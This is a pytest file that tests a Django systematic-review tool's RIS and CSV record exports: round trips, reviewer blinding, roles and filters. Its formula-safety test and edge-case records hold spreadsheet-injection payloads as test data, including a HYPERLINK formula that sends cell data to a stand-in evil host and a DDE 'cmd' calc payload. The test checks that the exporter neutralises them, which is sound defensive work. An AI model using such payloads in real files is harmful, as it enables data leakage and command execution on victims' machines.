"""Record exports (RIS, CSV): round trip through Sieve's own importer, rispy, formula safety, blinding, filters,
roles and query counts."""

import csv
import io
from typing import Any

import pytest
import rispy
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from exports import records
from exports.records import CSV_COLUMNS, ExportRecord, StageScreening
from reviews.importers import parse_file
from reviews.importers.base import ParsedRecord
from reviews.models import Import, Membership, Record
from reviews.services.imports import import_process, import_start
from reviews.tests.factories import MembershipFactory, UserFactory
from screening.models import Decision, FullText, Outcome, ScreeningSettings

pytestmark = pytest.mark.django_db
FIELDS = (
    "title", "abstract", "authors", "year", "journal", "volume", "issue", "pages", "doi", "pmid", "registry_id",
    "keywords", "url", "language", "publication_type",
)  # fmt: skip
TA, FT = "title_abstract", "full_text"


def url(review, fmt: str, query: str = "") -> str:
    return f"/api/v1/reviews/{review.pk}/export/{fmt}/{query}"


def body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def csv_table(response) -> list[dict[str, str]]:
    text = body(response)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def batch_of(review, source="MEDLINE (Ovid)") -> Import:
    return Import.objects.create(
        review=review, source=source, filename="s.ris", content_hash=f"h{review.pk}", status=Import.Status.SUCCEEDED
    )


def make_record(batch, position, **fields) -> Record:
    values = {"title": f"Record {position}", "publication_type": "Journal Article", **fields}
    return Record.objects.create(review=batch.review, batch=batch, position=position, **values)


# Normalized values as an import leaves them, chosen to hit every corner of the RIS writer.
EDGE_RECORDS: list[dict[str, Any]] = [
    {
        "title": "Subcutaneous ketamine for cancer pain: a randomised placebo-controlled trial",
        "abstract": "BACKGROUND: Ketamine is used.\nMETHODS: 185 adults.\nUK - wide survey of hospices.\n"
        "ER - not the end\nAB - nor an abstract tag\nPMID - 123 is no id here\nRESULTS: no benefit.",
        "authors": ["Hardy, J.", "Quinn, S.", "Centers for Disease Control and Prevention"],
        "year": 2012, "journal": "Journal of Clinical Oncology", "volume": "30", "issue": "29",
        "pages": "3611-3617", "doi": "10.1200/jco.2012.42.1081", "pmid": "22965960",
        "registry_id": "ACTRN12607000501448", "keywords": ["ketamine", "cancer pain", "opioid"],
        "url": "https://example.org/a?x=1&y=2", "language": "English", "publication_type": "Journal Article",
    },
    {
        "title": "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "abstract": "+1 is a formula too",
        "authors": ["-Minus, A.", "@Handle, B."], "year": 1996, "journal": "Canadian Journal of Anaesthesia",
        "pages": "349-69", "registry_id": "CHICTR-TRC-12002345", "keywords": ["@SUM(1)", "-2"],
        "publication_type": "Randomized Controlled Trial",
    },
    {
        "title": "Ketamine trial in Japan", "registry_id": "JRCT2031210001", "pages": "S12 - S15",
        "publication_type": "Journal Article; Review", "language": "Japanese", "journal": "Pain",
    },
    {"title": "Same start and end page", "pages": "5-5", "publication_type": "Book Section", "year": 2020},
    {"title": "Électrothérapie et kétamine — étude ouverte", "authors": ["Müller, Ä."],
     "publication_type": "Conference Proceedings", "url": "ftp://files.example.org/x.pdf"},
    {"title": "Registry record", "registry_id": "NCT01234567", "publication_type": "Trial registry record",
     "url": "https://clinicaltrials.gov/study/NCT01234567", "year": 2013},
    {"title": "", "abstract": "A record without a title.", "publication_type": "Generic"},
]  # fmt: skip


# --- round trip ---------------------------------------------------------------------------------------------------


def fields_of(record) -> dict:
    return {name: getattr(record, name) for name in FIELDS}


def test_ris_export_reimported_gives_the_same_records(cast, api):
    """Export through the API, import the file through Sieve's import service into another review: the same
    normalized fields for every record, in order (RIS imported records and hand-made edge cases)."""
    batch = batch_of(cast.review)
    for position, fields in enumerate(EDGE_RECORDS, start=1):
        make_record(batch, position, **fields)
    imported = import_start(
        user=cast.alice,
        review_id=cast.review.pk,
        file=SimpleUploadedFile("medline.ris", SAMPLE_RIS.encode()),
        source="Embase",
    )
    assert import_process(import_id=imported.pk).status == Import.Status.SUCCEEDED
    originals = list(Record.objects.filter(review=cast.review).order_by("id"))
    assert len(originals) == len(EDGE_RECORDS) + 3

    response = api("alice").get(url(cast.review, "ris"))
    assert response.status_code == 200
    data = body(response).encode()

    again = import_start(
        user=cast.dave, review_id=cast.other_review.pk, file=SimpleUploadedFile("export.ris", data), source="Sieve"
    )
    again = import_process(import_id=again.pk)
    assert again.status == Import.Status.SUCCEEDED, again.errors
    assert again.format == "ris"
    copies = list(Record.objects.filter(batch=again).order_by("position"))
    assert len(copies) == len(originals)
    for original, copy in zip(originals, copies, strict=True):
        assert fields_of(copy) == fields_of(original), original.pk


SAMPLE_RIS = """TY  - JOUR
T1  - Subcutaneous ketamine for cancer pain: a randomized placebo-controlled trial.
A1  - Hardy J.
A1  - Quinn S.
Y1  - 2012
JF  - J Clin Oncol
VL  - 30
IS  - 29
SP  - 3611
DO  - 10.1200/jco.2012.42.1081
DB  - Embase
C5  - 22965960
M3  - Article
KW  - ketamine; morphine
ER  - 

TY  - CHAP
TI  - Pain in palliative care
AU  - Bell, R. F.
PY  - 2009
T2  - Oxford Textbook of Palliative Medicine
AB  - First paragraph.
Second paragraph, wrapped
ER  - 

TY  - JOUR
TI  - Oral methadone for neuropathic cancer pain
AU  - Someone A.
PY  - 2015
JO  - Pain Medicine
N1  - Trial registration: ISRCTN12345678
UR  - http://www.isrctn.com/ISRCTN12345678
ER  - 
"""


def screening_stub() -> StageScreening:
    return StageScreening(records.INCLUDED, "", (("alice", "include", ""),))


def as_export(n: int, parsed: ParsedRecord) -> ExportRecord:
    return ExportRecord(
        id=n, duplicate_of=None, source="file", **{name: getattr(parsed, name) for name in FIELDS},
        title_abstract=screening_stub(), full_text=StageScreening(records.EXCLUDED, "Wrong population"),
    )  # fmt: skip


def documented_loss(original: dict, copy: dict) -> set[str]:
    """The fields records.py documents as not coming back identically (module docstring)."""
    lost = set()
    if not original["publication_type"] and copy["publication_type"] == "Generic":
        lost.add("publication_type")
    if any(n.count(",") >= 2 or ";" in n or " and " in n for n in original["authors"]):
        lost.add("authors")
    if any(";" in k for k in original["keywords"]):
        lost.add("keywords")
    if original["url"] and not original["url"].lower().startswith(("http://", "https://", "ftp://")):
        lost.add("url")
    if original["year"] is not None and not 1500 <= original["year"] <= 2199:
        lost.add("year")
    if original["registry_id"] and copy["registry_id"] != original["registry_id"]:
        from reviews.importers.base import find_registry_id

        if not find_registry_id(records.registry_text(original["registry_id"])):
            lost.add("registry_id")
    return lost


def test_real_exports_round_trip_through_the_ris_writer(shared_data):
    """Every bibliographic file in the shared data, read by Sieve's importer, written by the RIS export and read
    again: the same normalized fields, but for the losses the module documents."""
    files = sorted(p for p in (shared_data / "bibliographic").rglob("*") if p.is_file() and p.suffix != ".md")
    checked = 0
    for path in files:
        try:
            _, parsed = parse_file(path.read_bytes(), filename=path.name)
        except Exception:  # noqa: S112 - files Sieve cannot import are not this test's business
            continue
        text = "".join(records.ris_lines(as_export(n, p) for n, p in enumerate(parsed, start=1)))
        _, again = parse_file(text.encode(), filename="export.ris")
        assert len(again) == len(parsed), path
        for n, (before, after) in enumerate(zip(parsed, again, strict=True), start=1):
            original, copy = fields_of(before), fields_of(after)
            lost = documented_loss(original, copy)
            differing = {name for name in FIELDS if original[name] != copy[name]} - lost
            assert not differing, (path.name, n, {name: (original[name], copy[name]) for name in differing})
            checked += 1
    assert checked > 500


def test_an_empty_type_is_written_as_generic():
    record = as_export(1, ParsedRecord(title="No type"))
    assert "TY  - GEN\n" in "".join(records.ris_lines([record]))


# --- rispy and the custom tags ------------------------------------------------------------------------------------


@pytest.fixture
def records_screened(cast):
    """The cast's review, blinded, with erin as second reviewer and seven records: 1 in conflict at
    title/abstract (carol include, erin exclude), 2 included at title/abstract and excluded at full text, 3
    decided by erin only, 4 a duplicate of 2, 5 a maybe whose report was not retrieved, 6 included and decided by
    carol only at full text, 7 included and in conflict at full text."""
    erin = UserFactory(username="erin")
    MembershipFactory(review=cast.review, user=erin, role=Membership.Role.REVIEWER)
    cast.erin = erin
    ScreeningSettings.objects.create(review=cast.review, blinded=True)
    batch = batch_of(cast.review)
    r1, r2, r3 = (make_record(batch, n, title=f"Trial {n} of ketamine") for n in (1, 2, 3))
    r4 = make_record(batch, 4, title="Trial 2 of ketamine (Embase)", duplicate_of=r2)
    r5, r6, r7 = (make_record(batch, n, title=f"Trial {n} of ketamine") for n in (5, 6, 7))
    review = cast.review

    def decide(record, stage, user, decision, reason=""):
        Decision.objects.create(review=review, record=record, stage=stage, reviewer=user, decision=decision,
                                reason=reason)  # fmt: skip

    decide(r1, TA, cast.carol, "include")
    decide(r1, TA, erin, "exclude")
    Outcome.objects.create(review=review, record=r1, stage=TA, status="conflict")
    for who in (cast.carol, erin):
        decide(r2, TA, who, "include")
        decide(r2, FT, who, "exclude", "Wrong population")
        decide(r5, TA, who, "maybe")
    Outcome.objects.create(review=review, record=r2, stage=TA, status="settled", decision="include")
    Outcome.objects.create(review=review, record=r2, stage=FT, status="settled", decision="exclude",
                           reason="Wrong population")  # fmt: skip
    Outcome.objects.create(review=review, record=r5, stage=TA, status="settled", decision="maybe")
    FullText.objects.create(review=review, record=r5, not_retrieved=True)
    decide(r3, TA, erin, "exclude", "Not a trial")
    for record in (r6, r7):
        decide(record, TA, cast.carol, "include")
        decide(record, TA, erin, "include")
        Outcome.objects.create(review=review, record=record, stage=TA, status="settled", decision="include")
        decide(record, FT, cast.carol, "include")
    decide(r7, FT, erin, "exclude", "Wrong dose")
    Outcome.objects.create(review=review, record=r7, stage=FT, status="conflict")
    return {"r1": r1, "r2": r2, "r3": r3, "r4": r4, "r5": r5, "r6": r6, "r7": r7}


EXPECTED = {  # record: (title/abstract, full text) as an owner sees them
    "r1": ("conflict", "not_screened"),
    "r2": ("included", "excluded"),
    "r3": ("undecided", "not_screened"),
    "r4": ("duplicate", "duplicate"),
    "r5": ("maybe", "not_retrieved"),
    "r6": ("included", "undecided"),
    "r7": ("included", "conflict"),
}


def test_rispy_reads_the_export_and_its_custom_tags(cast, api, records_screened):
    response = api("alice").get(url(cast.review, "ris"))
    assert response["Content-Type"] == "application/x-research-info-systems; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="review-{cast.review.pk}-records.ris"'
    entries = {int(e["id"]): e for e in rispy.loads(body(response))}
    assert len(entries) == 7
    for name, (ta, ft) in EXPECTED.items():
        entry = entries[records_screened[name].pk]
        assert (entry["custom3"], entry["custom4"]) == (ta, ft)
        assert any(note.startswith(f"Sieve record {records_screened[name].pk}. ") or "duplicate" in note
                   for note in entry["notes"])  # fmt: skip
    r2 = entries[records_screened["r2"].pk]
    assert r2["custom8"] == "Wrong population"
    assert r2["notes"] == [
        f"Sieve record {records_screened['r2'].pk}. Screening: title/abstract: included [carol: include; "
        "erin: include]; full text: excluded, reason: Wrong population [carol: exclude (Wrong population); "
        "erin: exclude (Wrong population)]."
    ]
    assert entries[records_screened["r4"].pk]["custom1"] == str(records_screened["r2"].pk)
    assert "custom1" not in r2
    assert r2["type_of_reference"] == "JOUR"


# --- CSV ----------------------------------------------------------------------------------------------------------


def test_csv_header_is_the_documented_columns_and_rows_follow_it(cast, api, records_screened):
    response = api("bob").get(url(cast.review, "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="review-{cast.review.pk}-records.csv"'
    text = body(response)
    header = next(csv.reader(io.StringIO(text[1:])))
    assert header == CSV_COLUMNS
    rows = {row["record_id"]: row for row in csv.DictReader(io.StringIO(text[1:]))}
    for name, (ta, ft) in EXPECTED.items():
        row = rows[str(records_screened[name].pk)]
        assert (row["title_abstract_status"], row["full_text_status"]) == (ta, ft)
        assert row["own_decisions_only"] == "false"
    r2 = rows[str(records_screened["r2"].pk)]
    assert r2["full_text_decisions"] == "carol: exclude (Wrong population); erin: exclude (Wrong population)"
    assert (r2["full_text_reason"], r2["exclusion_reason"]) == ("Wrong population", "Wrong population")
    assert r2["source"] == "MEDLINE (Ovid)"
    assert rows[str(records_screened["r4"].pk)]["duplicate_of"] == str(records_screened["r2"].pk)


def test_csv_neutralises_formulas_and_ris_keeps_the_text(cast, api):
    batch = batch_of(cast.review)
    dangerous: dict[str, Any] = {
        "title": '=HYPERLINK("http://evil.example/?"&A1, "Click")', "abstract": "+SUM(1,2)",
        "authors": ["-Minus, A."], "journal": "@Journal", "volume": "\t=1", "issue": "\r=2",
        "keywords": ["=cmd|' /C calc'!A0"], "language": "\uff1dfull-width",
    }  # fmt: skip
    make_record(batch, 1, **dangerous)
    row = csv_table(api("alice").get(url(cast.review, "csv")))[0]
    assert row["title"] == "'" + dangerous["title"]
    assert row["abstract"] == "'+SUM(1,2)"
    assert row["authors"] == "'-Minus, A."
    assert row["journal"] == "'@Journal"
    assert row["volume"] == "'\t=1"
    assert row["issue"] == "'\r=2"
    assert row["keywords"] == "'=cmd|' /C calc'!A0"
    assert row["language"] == "'\uff1dfull-width"
    assert row["record_id"].isdigit()  # numbers stay numbers, unprefixed
    ris = body(api("alice").get(url(cast.review, "ris")))
    assert f"TI  - {dangerous['title']}\n" in ris
    assert "AB  - +SUM(1,2)\n" in ris
    assert "AU  - -Minus, A.\n" in ris
    assert "T2  - @Journal\n" in ris


# --- who sees what ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["ris", "csv"])
def test_a_blinded_reviewer_gets_only_their_own_decisions(cast, api, records_screened, fmt):
    response = api("carol").get(url(cast.review, fmt))
    assert response.status_code == 200
    text = body(response)
    assert "erin" not in text
    assert "conflict" not in text
    assert "Not a trial" not in text  # erin's reasons
    assert "Wrong dose" not in text
    if fmt == "csv":
        rows = {row["record_id"]: row for row in csv.DictReader(io.StringIO(text[1:]))}
        r1 = rows[str(records_screened["r1"].pk)]
        # carol's own decision, not the conflict
        assert (r1["title_abstract_status"], r1["title_abstract_decisions"]) == ("included", "carol: include")
        r3 = rows[str(records_screened["r3"].pk)]
        assert (r3["title_abstract_status"], r3["title_abstract_decisions"]) == ("undecided", "")
        assert {row["own_decisions_only"] for row in rows.values()} == {"true"}
    else:
        entries = {int(e["id"]): e for e in rispy.loads(text)}
        assert entries[records_screened["r1"].pk]["custom3"] == "included"
        assert entries[records_screened["r3"].pk]["custom3"] == "undecided"
        assert all("Your screening (blinded: your own decisions only)" in e["notes"][0] for e in entries.values())


def test_a_blinded_reviewer_cannot_filter_by_conflict(cast, api, records_screened):
    response = api("carol").get(url(cast.review, "csv", "?stage=title_abstract&status=conflict"))
    assert response.status_code == 400
    assert "blinded" in response.json()["detail"]
    assert response.json()["errors"]["status"]


def test_once_unblinded_a_reviewer_sees_everyone(cast, api, records_screened):
    ScreeningSettings.objects.filter(review=cast.review).update(blinded=False)
    rows = {r["record_id"]: r for r in csv_table(api("carol").get(url(cast.review, "csv")))}
    r1 = rows[str(records_screened["r1"].pk)]
    assert (r1["title_abstract_status"], r1["title_abstract_decisions"]) == (
        "conflict",
        "carol: include; erin: exclude",
    )


@pytest.mark.parametrize("fmt", ["ris", "csv"])
@pytest.mark.parametrize(("who", "status"), [("alice", 200), ("bob", 200), ("carol", 200), ("dave", 404)])
def test_roles(cast, api, records_screened, fmt, who, status):
    response = api(who).get(url(cast.review, fmt))
    assert response.status_code == status
    if status == 404:
        assert response.json() == {"detail": "Not found."}


@pytest.mark.parametrize("fmt", ["ris", "csv"])
def test_anonymous_gets_401(cast, api, fmt):
    response = api("anonymous").get(url(cast.review, fmt))
    assert response.status_code == 401


def test_records_of_unfinished_imports_are_not_exported(cast, api):
    batch = batch_of(cast.review)
    make_record(batch, 1, title="Visible")
    running = Import.objects.create(review=cast.review, source="x", filename="x.ris", content_hash="r",
                                    status=Import.Status.RUNNING)  # fmt: skip
    make_record(running, 1, title="Still being imported")
    rows = csv_table(api("alice").get(url(cast.review, "csv")))
    assert [row["title"] for row in rows] == ["Visible"]


# --- filters ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["alice", "carol"])
def test_each_status_filter_keeps_exactly_the_records_with_that_status(cast, api, records_screened, who):
    everyone = csv_table(api(who).get(url(cast.review, "csv")))
    blinded = who == "carol"
    for stage in (TA, FT):
        screened = {r["record_id"] for r in everyone if r[f"{stage}_status"] in records.SCREENED}
        got = {r["record_id"] for r in csv_table(api(who).get(url(cast.review, "csv", f"?stage={stage}")))}
        assert got == screened, stage
        for status in records.STAGE_STATUSES[stage]:
            if blinded and status == "conflict":
                continue
            query = f"?stage={stage}&status={status}"
            expected = {r["record_id"] for r in everyone if r[f"{stage}_status"] == status}
            got = {r["record_id"] for r in csv_table(api(who).get(url(cast.review, "csv", query)))}
            assert got == expected, (stage, status)
            ris = rispy.loads(body(api(who).get(url(cast.review, "ris", query))))
            assert {e["id"] for e in ris} == expected, (stage, status)


def test_filters_select_what_the_statuses_say(cast, api, records_screened):
    def ids(query):
        return {int(r["record_id"]) for r in csv_table(api("alice").get(url(cast.review, "csv", query)))}

    pk = {name: r.pk for name, r in records_screened.items()}
    assert ids("?stage=full_text&status=excluded") == {pk["r2"]}
    assert ids("?stage=title_abstract&status=conflict") == {pk["r1"]}
    assert ids("?stage=full_text&status=not_retrieved") == {pk["r5"]}
    assert ids("?status=duplicate") == {pk["r4"]}
    assert ids("?stage=full_text&status=conflict") == {pk["r7"]}
    assert ids("?stage=full_text&status=undecided") == {pk["r6"]}
    assert ids("?stage=full_text") == {pk["r2"], pk["r6"], pk["r7"]}
    assert ids("?stage=title_abstract") == {pk["r1"], pk["r2"], pk["r3"], pk["r5"], pk["r6"], pk["r7"]}
    assert ids("") == set(pk.values())
    response = api("alice").get(url(cast.review, "ris", "?stage=full_text&status=excluded"))
    assert response["Content-Disposition"] == (
        f'attachment; filename="review-{cast.review.pk}-records-full_text-excluded.ris"'
    )


@pytest.mark.parametrize(
    ("query", "field", "words"),
    [
        ("?stage=abstract", "stage", ["title_abstract", "full_text"]),
        ("?stage=full_text&status=accepted", "status", ["included", "not_retrieved", "duplicate"]),
        ("?status=excluded", "status", ["stage=title_abstract", "stage=full_text"]),
        ("?stage=title_abstract&status=not_retrieved", "status", ["title/abstract", "included", "undecided"]),
    ],
)
def test_bad_filters_get_400_naming_the_choices(cast, api, query, field, words):
    for fmt in ("ris", "csv"):
        response = api("alice").get(url(cast.review, fmt, query))
        assert response.status_code == 400
        message = response.json()["errors"][field][0]
        assert all(word in message for word in words), message


# --- queries and streaming ----------------------------------------------------------------------------------------


def export_queries(review, user, count: int, page: int) -> int:
    review.my_role = "owner"
    with CaptureQueriesContext(connection) as queries:
        exported = list(records.export_records(review=review, user=user, page=page))
    assert len(exported) == count
    return len(queries)


def test_queries_are_per_page_not_per_record(cast, records_screened):
    batch = batch_of(cast.review, source="Extra")
    for n in range(23):  # and the fixture's seven
        make_record(batch, n + 1, authors=["A, B."])
    small = export_queries(cast.review, cast.alice, 30, page=1000)
    Record.objects.bulk_create(
        Record(review=cast.review, batch=batch, position=n, title=f"More {n}") for n in range(100, 370)
    )
    large = export_queries(cast.review, cast.alice, 300, page=1000)
    assert small == large <= 5
    # Pages of 50: 300 records take 6 full pages and an empty look-up, four queries each at most.
    assert export_queries(cast.review, cast.alice, 300, page=50) <= 1 + 4 * 6 + 1


def test_the_response_streams(cast, api, records_screened):
    response = api("alice").get(url(cast.review, "ris"))
    assert response.streaming
    text = body(response)
    assert text.count("ER  - \n") == 7
    assert not text.startswith("\ufeff")  # a BOM would hide the first record from rispy


def test_the_page_helper_returns_a_download(cast, records_screened):
    review = cast.review
    review.my_role = "reviewer"
    response = records.csv_response(review=review, user=cast.carol, stage=TA, status="included")
    assert response["Content-Disposition"].endswith('-title_abstract-included.csv"')
    text = body(response)
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    assert [int(r["record_id"]) for r in rows] == [records_screened[n].pk for n in ("r1", "r2", "r6", "r7")]


# --- the writer against any text ----------------------------------------------------------------------------------

_TEXT = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")) | st.sampled_from("\n\t -;,:"), max_size=60
)
_TAGGY = st.sampled_from(["AB  - x", "ER  - ", "TY  - JOUR", "PMID - 1", "KW - y", "UK - wide", "1.", "Link to x"])


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    title=_TEXT, paragraphs=st.lists(_TEXT | _TAGGY, max_size=5), authors=st.lists(_TEXT, max_size=4),
    keywords=st.lists(_TEXT, max_size=3), journal=_TEXT, volume=_TEXT, pages=_TEXT, kind=_TEXT | st.sampled_from(
        ["Journal Article", "Randomized Controlled Trial", "Journal Article; Review", ""]),
    year=st.none() | st.integers(1500, 2199), reason=_TEXT,
)  # fmt: skip
def test_any_normalized_record_comes_back_from_the_ris_writer(
    title, paragraphs, authors, keywords, journal, volume, pages, kind, year, reason
):
    """What any import leaves (ParsedRecord.finish), written as RIS and read again: the same, but for the
    documented losses."""
    parsed = ParsedRecord(
        title=title or "x", abstract="\n".join(paragraphs), authors=authors, keywords=keywords, journal=journal,
        volume=volume, pages=pages, publication_type=kind, year=year,
    ).finish()  # fmt: skip
    record = as_export(1, parsed)
    record.full_text = StageScreening(records.EXCLUDED, reason)
    _, again = parse_file("".join(records.ris_lines([record])).encode(), filename="export.ris", format="ris")
    original, copy = fields_of(parsed), fields_of(again[0])
    lost = documented_loss(original, copy)
    assert {name: copy[name] for name in FIELDS if name not in lost} == {
        name: original[name] for name in FIELDS if name not in lost
    }
